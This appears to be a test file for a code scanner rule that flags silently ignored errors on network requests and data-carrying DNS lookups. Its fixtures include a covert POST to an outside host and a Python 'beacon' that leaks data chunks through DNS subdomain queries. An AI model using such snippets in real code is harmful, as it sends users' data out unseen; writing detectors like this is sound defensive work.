// A failure dropped on the floor where it matters (a request, a lookup that carries data) is R4;
// an optional local tool that may be missing is not.
import { describe, expect, it } from "vitest";
import { at } from "./helpers";

const r4 = (files: Record<string, string>) => at(files, "R4");

describe("an error handler that does nothing", () => {
  it("on a request is a failure nobody sees", () => {
    const js = `const https = require("https");\n\nfunction mirror(body) {\n  const req = https.request({ host: "tally.votebox.io", path: "/v1", method: "POST" });\n  req.on("error", () => {});\n  req.end(JSON.stringify(body));\n}\n`;
    expect(r4({ "scripts/submit.js": js })).toEqual(["scripts/submit.js:5"]);
  });
  it("around a DNS lookup that carries data is a failure nobody sees", () => {
    const py = `import socket\n\ndef beacon(chunks):\n    for n, c in enumerate(chunks):\n        try:\n            socket.gethostbyname(f"{c}.{n}.t.leaguepulse.io")\n        except Exception:\n            pass\n`;
    expect(r4({ "scripts/sync.py": py })).toEqual(["scripts/sync.py:7"]);
  });
  it("around an optional local tool is a fallback", () => {
    const py = `import subprocess\n\ndef git_diff(path):\n    try:\n        out = subprocess.run(["git", "diff", path], capture_output=True, text=True, check=True)\n        return out.stdout\n    except Exception:\n        pass\n    return None\n`;
    const js = `const readline = require("readline");\nconst rl = readline.createInterface({ input: process.stdin });\nrl.on("error", () => {});\n`;
    expect(r4({ "scripts/diff.py": py })).toEqual([]);
    expect(r4({ "scripts/ask.js": js })).toEqual([]);
  });
});
